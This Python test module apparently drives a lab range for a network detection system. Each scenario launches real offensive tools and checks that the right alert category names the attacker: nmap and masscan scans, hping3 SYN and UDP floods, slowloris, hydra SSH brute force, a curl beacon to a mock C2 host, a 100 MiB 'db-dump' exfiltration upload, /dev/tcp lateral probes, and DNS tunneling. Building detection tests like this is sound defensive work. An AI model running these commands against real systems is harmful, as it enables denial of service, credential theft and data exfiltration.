"""Attack scenarios: each starts real tools from its own attacker namespace(s) and declares who
the attacker is, which alert category must name it, and by when.

A scenario's `start(rng)` launches its tools as background processes (bounded in count and
time) and returns them; the driver in conftest polls the API meanwhile and stops the tools once
the verdict is in. Every attacker has its own address, so "the first alert for this attacker in
this category" is unambiguous even though alerts are deduplicated per detector + entity.
"""
from __future__ import annotations

import base64
import random
import shlex
import subprocess
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Callable

if TYPE_CHECKING:
    from .conftest import Range

SCAN_DEADLINE = 10.0
DEFAULT_DEADLINE = 60.0


@dataclass
class Scenario:
    id: str
    title: str
    category: str                     # the watchkeeper.alert.category that must name the attacker
    attackers: list[str]              # host names (each its own namespace and address)
    launch: Callable[["Range", "Scenario"], list[subprocess.Popen]]
    deadline: float = DEFAULT_DEADLINE
    max_runtime: float = 75.0         # hard cap on the tools, whatever happens
    victim: str | None = None         # for volumetric attacks: the target host
    ok_exit: tuple[int, ...] = (0,)   # tool exit codes that mean "the tool did its job"
    notes: str = ""
    extra: dict = field(default_factory=dict)
    rule: str | None = None           # a rule id that must be among the matching alerts


def _sh(r: "Range", host: str, label: str, script: str) -> subprocess.Popen:
    return r.lab.spawn(host, label, "bash", "-c", script, cwd=str(r.lab.workdir))


def _ip(r: "Range", host: str) -> str:
    return r.lab.hosts[host].ip


# ---- scans -----------------------------------------------------------------------------------
def nmap_syn_fast(r, s):
    targets = " ".join(_ip(r, h) for h in ("web", "ssh", "dns", "backup", "files"))
    return [_sh(r, s.attackers[0], s.id,
                f"nmap -sS -T4 -n -Pn --top-ports 200 --max-retries 1 --host-timeout 40s "
                f"-e eth0 {targets}")]


def nmap_connect(r, s):
    return [_sh(r, s.attackers[0], s.id,
                f"nmap -sT -T4 -n -Pn -p 1-1000 --max-retries 1 --host-timeout 40s "
                f"{_ip(r, 'web')} {_ip(r, 'files')}")]


def nmap_udp(r, s):
    targets = " ".join(_ip(r, h) for h in ("web", "ssh", "dns", "backup", "files"))
    return [_sh(r, s.attackers[0], s.id,
                f"nmap -sU -T4 -n -Pn -p 53,67,69,123,137,161,500,514,1900,5353 "
                f"--max-retries 1 --host-timeout 40s -e eth0 {targets}")]


def nmap_slow(r, s):
    # -T2 waits 0.4 s between probes: ~150 ports in a minute, hard-capped at 65 s
    return [_sh(r, s.attackers[0], s.id,
                f"nmap -sS -T2 -n -Pn -p 1-150 --max-retries 0 --host-timeout 65s "
                f"-e eth0 {_ip(r, 'ssh')}")]


def masscan_low_rate(r, s):
    # every lab host is on-link: broadcast "router" MAC lets the bridge deliver each probe
    return [_sh(r, s.attackers[0], s.id,
                "masscan 10.77.1.0/24 -p 22,80,443,445,3389,8080 --rate 300 -e eth0 "
                "--router-mac ff-ff-ff-ff-ff-ff --wait 2")]


def nmap_xmas(r, s):
    # FIN+PSH+URG probes: closed ports answer RST, which once counted as accepted contacts
    return [_sh(r, s.attackers[0], s.id,
                f"nmap -sX -T4 -n -Pn -p 1-300 --max-retries 1 -e eth0 {_ip(r, 'files')}")]


def nmap_ack(r, s):
    # bare ACK probes (firewall mapping): every unfiltered port answers RST, open or closed
    return [_sh(r, s.attackers[0], s.id,
                f"nmap -sA -T4 -n -Pn -p 1-300 --max-retries 1 -e eth0 {_ip(r, 'backup')}")]


def nmap_arp_sweep(r, s):
    # host discovery on the attacker's own segment: nmap asks ARP for each address, no IP
    return [_sh(r, s.attackers[0], s.id,
                "nmap -sn -PR -n -e eth0 --max-retries 1 10.77.1.0/24")]


def nmap_os(r, s):
    # OS detection of one server: its T2-T7 probes (no flags, SYN+FIN+URG+PSH, bare ACKs,
    # FIN+PSH+URG) on one open and one closed port; two ports only, so no port scan to name
    return [_sh(r, s.attackers[0], s.id,
                f"nmap -O -n -Pn -p 80,81 --max-retries 1 -e eth0 {_ip(r, 'web')}")]


# ---- denial of service -----------------------------------------------------------------------
def syn_flood(r, s):
    web = _ip(r, s.victim)
    return [_sh(r, h, f"{s.id}-{h}", f"hping3 -q -S -p 80 --faster -c 15000 {web}")
            for h in s.attackers]


def udp_flood(r, s):
    target = _ip(r, s.victim)
    return [_sh(r, h, f"{s.id}-{h}", f"hping3 -q --udp -p 9000 -d 256 --faster -c 15000 {target}")
            for h in s.attackers]


def slowloris(r, s):
    return [_sh(r, s.attackers[0], s.id,
                f"slowhttptest -H -c 400 -r 100 -i 10 -x 24 -p 3 -l 45 -t GET "
                f"-u http://{_ip(r, s.victim)}/ -o {r.lab.workdir}/slowhttp")]


# ---- credentials -----------------------------------------------------------------------------
def hydra_ssh(r, s):
    d = r.lab.workdir
    (d / "users.txt").write_text("root\nadmin\noracle\n")
    rng = random.Random(11)
    words = ["123456", "password", "admin", "letmein", "qwerty", "welcome1", "P@ssw0rd",
             "changeme", "toor", "dragon"] + [f"{rng.getrandbits(64):x}" for _ in range(4)]
    (d / "words.txt").write_text("\n".join(words) + "\n")
    return [_sh(r, s.attackers[0], s.id,
                f"hydra -I -L {d}/users.txt -P {d}/words.txt -t 4 -w 10 -o {d}/hydra.out "
                f"ssh://{_ip(r, 'ssh')}")]


def root_login_external(r, s):
    key = r.ssh_key
    return [_sh(r, s.attackers[0], s.id,
                f"ssh -i {key} -o BatchMode=yes -o StrictHostKeyChecking=no "
                f"-o UserKnownHostsFile=/dev/null -o ConnectTimeout=5 root@{_ip(r, 'ssh')} "
                f"'id; uname -a'")]


# ---- command and control, exfiltration -------------------------------------------------------
def jittered_beacon(r, s):
    rng = random.Random(2024)
    sleeps = [round(2.0 * rng.uniform(0.8, 1.2), 2) for _ in range(30)]   # 2 s +- 20 %, ~60 s
    c2 = _ip(r, "xweb")
    loop = "; ".join(f"curl -s -m 3 -o /dev/null 'http://{c2}/beacon?id=7f3a&seq={i}'; "
                     f"sleep {sl}" for i, sl in enumerate(sleeps))
    return [_sh(r, s.attackers[0], s.id, loop)]


def large_upload(r, s):
    blob = r.lab.workdir / "exfil.bin"
    if not blob.exists():
        with open(blob, "wb") as fh:
            rng = random.Random(5)
            for _ in range(100):
                fh.write(rng.randbytes(1 << 20))          # 100 MiB, incompressible
    return [_sh(r, s.attackers[0], s.id,
                f"curl -s -S -m 70 --limit-rate 12M -o /dev/null -w '%{{http_code}} "
                f"%{{size_upload}}\\n' -T {blob} http://{_ip(r, 'xweb')}/upload/db-dump.bin")]


def admin_port_probe(r, s):
    targets = [_ip(r, h) for h in ("web", "ssh", "dns", "backup", "files", "c1", "c2", "c3")]
    probes = [f"{t} {p}" for t in targets for p in (22, 3389, 445, 5985)]
    script = ("for tp in " + " ".join(shlex.quote(p) for p in probes) + "; do set -- $tp; "
              "timeout 2 bash -c \"exec 3<>/dev/tcp/$1/$2\" 2>/dev/null; sleep 0.3; done; true")
    return [_sh(r, s.attackers[0], s.id, script)]


def dns_tunnel(r, s):
    from .services import TUNNEL_ZONE
    rng = random.Random(99)
    resolver = _ip(r, "dns")
    lines = []
    for seq in range(300):
        chunk = base32(rng.randbytes(35))                          # 56 chars of "payload"
        lines.append(f"@{resolver} +tries=1 +time=1 +short {chunk}.{seq:04x}.{TUNNEL_ZONE} TXT")
    # 15 bursts of 20 queries, one second apart: ~20 s, 300 queries
    parts = []
    for i in range(15):
        part = r.lab.workdir / f"tunnel.{i}"
        part.write_text("\n".join(lines[i * 20:(i + 1) * 20]) + "\n")
        parts.append(f"dig -f {part} >/dev/null; sleep 1")
    return [_sh(r, s.attackers[0], s.id, "; ".join(parts))]


def dga_lookups(r, s):
    rng = random.Random(31337)
    resolver = _ip(r, "dns")
    letters = "abcdefghijklmnopqrstuvwxyz"
    names = ["".join(rng.choice(letters) for _ in range(rng.randint(12, 20))) + "." +
             rng.choice(["com", "net", "info", "biz", "xyz", "top"]) for _ in range(150)]
    parts = []
    for i in range(10):
        part = r.lab.workdir / f"dga.{i}"
        part.write_text("\n".join(f"@{resolver} +tries=1 +time=1 +short {n} A"
                                  for n in names[i * 15:(i + 1) * 15]) + "\n")
        parts.append(f"dig -f {part} >/dev/null; sleep 1")
    return [_sh(r, s.attackers[0], s.id, "; ".join(parts))]


def base32(data: bytes) -> str:
    return base64.b32encode(data).decode().rstrip("=").lower()


# Host name -> (address, role) of every attacker namespace the scenarios use.
ATTACKERS = {
    "a-syn": "10.77.3.11", "a-tcp": "203.0.113.12", "a-udpscan": "10.77.3.13",
    "a-slowscan": "203.0.113.14", "a-masscan": "10.77.3.15", "a-arpscan": "10.77.3.16",
    "a-xmas": "203.0.113.16", "a-ackscan": "203.0.113.17", "a-osscan": "203.0.113.18",
    "a-flood1": "203.0.113.21", "a-flood2": "203.0.113.22", "a-flood3": "203.0.113.23",
    "a-uflood1": "203.0.113.31", "a-uflood2": "203.0.113.32",
    "a-hydra": "203.0.113.40", "a-slowhttp": "203.0.113.50", "a-rootlogin": "203.0.113.95",
    "a-beacon": "10.77.3.60", "a-exfil": "10.77.3.70", "a-lateral": "10.77.3.80",
    "a-tunnel": "10.77.3.90", "a-dga": "10.77.3.91",
}

SCENARIOS: list[Scenario] = [
    Scenario("nmap_syn_fast", "nmap -sS -T4 top-200 ports, 5 internal servers (insider)",
             "scan", ["a-syn"], nmap_syn_fast, deadline=SCAN_DEADLINE, max_runtime=45),
    Scenario("nmap_connect", "nmap -sT -T4 ports 1-1000, 2 servers (from outside)",
             "scan", ["a-tcp"], nmap_connect, deadline=SCAN_DEADLINE, max_runtime=45),
    Scenario("nmap_udp", "nmap -sU 10 UDP ports, 5 servers (insider)",
             "scan", ["a-udpscan"], nmap_udp, deadline=SCAN_DEADLINE, max_runtime=45),
    Scenario("nmap_slow_t2", "nmap -sS -T2 ports 1-150 on the ssh server (from outside, ~60 s)",
             "scan", ["a-slowscan"], nmap_slow, deadline=SCAN_DEADLINE, max_runtime=70),
    Scenario("masscan", "masscan 10.77.1.0/24 x 6 ports at 300 pps (insider)",
             "scan", ["a-masscan"], masscan_low_rate, deadline=SCAN_DEADLINE, max_runtime=30),
    Scenario("nmap_xmas", "nmap -sX (FIN+PSH+URG) ports 1-300 on files (from outside)",
             "scan", ["a-xmas"], nmap_xmas, deadline=SCAN_DEADLINE, max_runtime=45),
    Scenario("nmap_ack", "nmap -sA (bare ACK) ports 1-300 on backup (from outside)",
             "scan", ["a-ackscan"], nmap_ack, deadline=SCAN_DEADLINE, max_runtime=45),
    Scenario("nmap_arp_sweep", "nmap -sn host discovery of 10.77.1.0/24 over ARP (insider)",
             "scan", ["a-arpscan"], nmap_arp_sweep, deadline=SCAN_DEADLINE, max_runtime=30,
             rule="wk.scan.arp_sweep"),
    Scenario("nmap_os", "nmap -O OS detection of web, ports 80 and 81 (from outside)",
             "scan", ["a-osscan"], nmap_os, deadline=SCAN_DEADLINE, max_runtime=30,
             rule="wk.scan.os_fingerprint"),
    Scenario("syn_flood", "hping3 SYN flood to web:80 from 3 sources, 15k packets each",
             "dos", ["a-flood1", "a-flood2", "a-flood3"], syn_flood, victim="web",
             max_runtime=60, ok_exit=(0, 1)),   # hping3 exits 1 when nothing answered
    Scenario("udp_flood", "hping3 UDP flood to backup:9000 from 2 sources, 15k x 256 B each",
             "dos", ["a-uflood1", "a-uflood2"], udp_flood, victim="backup", max_runtime=60,
             ok_exit=(0, 1)),
    Scenario("slow_http", "slowhttptest slowloris, 400 connections, 45 s, against nginx",
             "dos", ["a-slowhttp"], slowloris, victim="web", max_runtime=60),
    Scenario("hydra_ssh", "hydra ssh brute force, 3 users x 14 passwords (from outside)",
             "brute_force", ["a-hydra"], hydra_ssh, max_runtime=70, ok_exit=(0, 255)),
    Scenario("ssh_root_external", "root logs in over ssh (stolen key) from outside",
             "policy_violation", ["a-rootlogin"], root_login_external, max_runtime=20),
    Scenario("beacon", "curl beacon every 2 s +-20 % for ~60 s to an external web server",
             "beaconing", ["a-beacon"], jittered_beacon, max_runtime=75),
    Scenario("exfil_upload", "curl -T 100 MiB to an external host (12 MB/s)",
             "exfiltration", ["a-exfil"], large_upload, max_runtime=70),
    Scenario("admin_port_probe", "connects to ssh/3389/445/5985 on 8 internal hosts",
             "lateral_movement", ["a-lateral"], admin_port_probe, max_runtime=40),
    Scenario("dns_tunnel", "300 long random-subdomain TXT queries via the lab resolver",
             "dns_tunneling", ["a-tunnel"], dns_tunnel, max_runtime=45),
    Scenario("dga", "150 lookups of random algorithmic domains (NXDOMAIN)",
             "dga", ["a-dga"], dga_lookups, max_runtime=40),
]
